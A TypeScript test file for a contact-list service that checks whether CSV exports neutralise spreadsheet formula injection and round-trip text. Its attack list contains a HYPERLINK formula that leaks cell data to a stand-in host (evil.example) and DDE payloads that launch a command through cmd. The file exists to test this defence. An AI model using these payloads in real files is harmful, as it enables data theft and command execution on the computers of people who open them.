import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { writeCsv } from '../../server/kit/text/csv.ts';
import { escapeCell, unescapeCell } from '../../server/kit/text/csv-cells.ts';
import { CsvReader } from '../../server/modules/audience/csv-reader.ts';
import { newPhone } from '../support/phones.ts';
import { DEMO_TOKEN, startTestService } from '../support/service.ts';
import { waitFor } from '../support/wait-for.ts';

/* "My name in your list is a formula": the spreadsheet of whoever exports the list must not run it. */

const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t',
  '=',
];
const harmless = [
  '',
  'Dana',
  '+972501234567',
  '-5',
  '-12.50',
  '+1,000',
  "O'Neil",
  "'quoted'",
  '0501234567',
  'a=b',
  'x\ty',
  '1-2',
];

test('a cell that would be a formula is text in the file, and a number with its sign stays a number', () => {
  for (const attack of attacks) assert.equal(escapeCell(attack), `'${attack}`);
  for (const value of harmless) assert.equal(escapeCell(value), value);
  assert.equal(writeCsv([['=1+1', 7, null, 'b']], false).toString(), "'=1+1,7,,b\r\n");
});

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc
    .array(
      fc.constantFrom(
        "'",
        '"',
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        ' ',
        '1',
        '.',
        ',',
        '＝',
        '\u00a0',
        'x',
      ),
      {
        maxLength: 8,
      },
    )
    .map((characters) => characters.join('')),
);

test('writing and reading gives every text back, and no written cell is a formula', () => {
  fc.assert(
    fc.property(text, (value) => {
      const written = escapeCell(value);
      assert.equal(unescapeCell(written), value);
      assert.ok(!/^[=@＝＋－＠\t\r\n]/.test(written));
      assert.ok(!/^[+-]/.test(written) || /^[+-][\d.,]+$/.test(written));
    }),
    { numRuns: 5_000 },
  );
});

test('a written file is read as the same rows', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.constant('first'), text, text), { minLength: 1, maxLength: 20 }),
      async (rows) => {
        const file = writeCsv(rows, true);
        // A quote that is not closed and a line break are a broken file to the reader, also when they were meant.
        fc.pre(rows.flat().every((cell) => !(cell.startsWith('"') && cell.includes('\n'))));
        const reader = new CsvReader({ separator: ',', position: 0, line: 1 });
        const read = [...(await reader.push(file)), ...(await reader.end())];
        assert.deepEqual(
          read.map(({ fields }) => fields),
          rows,
        );
      },
    ),
    { numRuns: 300 },
  );
});

test('every CSV file is written by one function', () => {
  const files = readdirSync('server', { recursive: true, encoding: 'utf8' }).filter((file) =>
    file.endsWith('.ts'),
  );
  const writers = files.filter((file) => readFileSync(`server/${file}`, 'utf8').includes("'csv-stringify"));
  assert.deepEqual(writers, ['kit/text/csv.ts']);
});

test('what was imported as a formula is exported as text, and comes back the same from the exported file', async () => {
  const { url } = await startTestService();
  const headers = { authorization: `Bearer ${DEMO_TOKEN}`, 'content-type': 'application/json' };
  const call = async (method: string, path: string, body?: unknown) => {
    const response = await fetch(`${url}/v1/${path}`, {
      method,
      headers,
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    assert.ok(response.ok, `${path}: ${response.status} ${await response.clone().text()}`);
    return response.json() as Promise<Record<string, unknown>>;
  };
  const importInto = async (list: unknown, file: string | Buffer) => {
    const response = await fetch(`${url}/v1/contact-lists/${list}/import`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'text/csv' },
      body: file as string,
    });
    assert.equal(response.status, 202, await response.clone().text());
    const { id } = (await response.json()) as { id: string };
    await waitFor('the import is done', async () => (await call('GET', `imports/${id}`)).state === 'done');
  };
  const exported = async (list: unknown) => {
    const response = await fetch(`${url}/v1/contact-lists/${list}/export`, { headers });
    assert.equal(response.status, 200, await response.clone().text());
    return Buffer.from(await response.arrayBuffer());
  };
  const [one, two] = [
    await call('POST', 'contact-lists', { name: 'one' }),
    await call('POST', 'contact-lists', { name: 'two' }),
  ];
  const formula = '=HYPERLINK("http://evil.example","x")';
  const file = `phone,=name\r\n${newPhone()},"${formula.replaceAll('"', '""')}"\r\n${newPhone()},+972501234567\r\n`;
  await importInto(one.id, file);
  const first = await exported(one.id);
  const rows = parse(first, { bom: true }) as string[][];
  assert.deepEqual(rows[0], ['phone', "'=name"]);
  assert.deepEqual(
    rows
      .slice(1)
      .map(([, name]) => name)
      .sort(),
    [`'${formula}`, '+972501234567'].sort(),
  );
  await importInto(two.id, first);
  assert.deepEqual(await exported(two.id), first);
});
